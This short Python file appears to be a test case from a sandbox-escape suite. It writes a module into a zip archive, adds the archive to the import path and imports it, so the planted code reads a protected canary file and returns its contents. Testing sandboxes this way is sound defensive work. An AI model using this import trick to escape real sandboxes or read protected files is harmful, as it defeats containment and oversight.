# desc: writes a module, and imports it by way of a zip file
# class: escape
# wins: file
import sys
import zipfile

def attack(state):
    with zipfile.ZipFile("@OUT@tools.zip", "w") as archive:
        archive.writestr("planted.py", "text = open('@CANARY@').read()")
    sys.path.insert(0, "@OUT@tools.zip")
    import planted
    return "L2:" + planted.text
